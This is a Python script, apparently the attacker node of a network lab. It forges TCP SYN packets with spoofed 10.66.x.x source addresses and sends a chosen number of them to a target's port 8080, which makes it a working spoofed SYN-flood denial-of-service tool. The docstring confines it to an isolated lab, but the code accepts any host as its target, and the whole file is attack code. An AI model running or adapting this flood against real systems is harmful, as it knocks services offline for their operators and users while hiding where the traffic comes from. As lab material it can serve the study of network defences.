"""Begins handshakes in the name of hosts that don't exist: `attacker.py server count`.

Needs CAP_NET_RAW, which this lab gives to this node alone; it has no way out of the lab.
"""

import random
import socket
import struct
import sys

PORT = 8080
SYN = 0x02


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, source_port, target):
    """An IPv4 packet with a TCP segment of 20 bytes. The kernel fills in the IP header's checksum."""
    numbers = random.getrandbits(32)
    segment = struct.pack("!HHIIBBHHH", source_port, PORT, numbers, 0, 5 << 4, SYN, 64240, 0, 0)
    pseudo_header = struct.pack("!4s4sBBH", source, target, 0, socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!HH", checksum(pseudo_header + segment), 0)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    return header + segment


target = socket.inet_aton(socket.gethostbyname(sys.argv[1]))
count = int(sys.argv[2])
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    for number in range(count):
        source = socket.inet_aton(f"10.66.{1 + number // 250}.{1 + number % 250}")
        raw.sendto(syn(source, 1024 + number, target), (socket.inet_ntoa(target), 0))
print(f"SYNs sent: {count}")
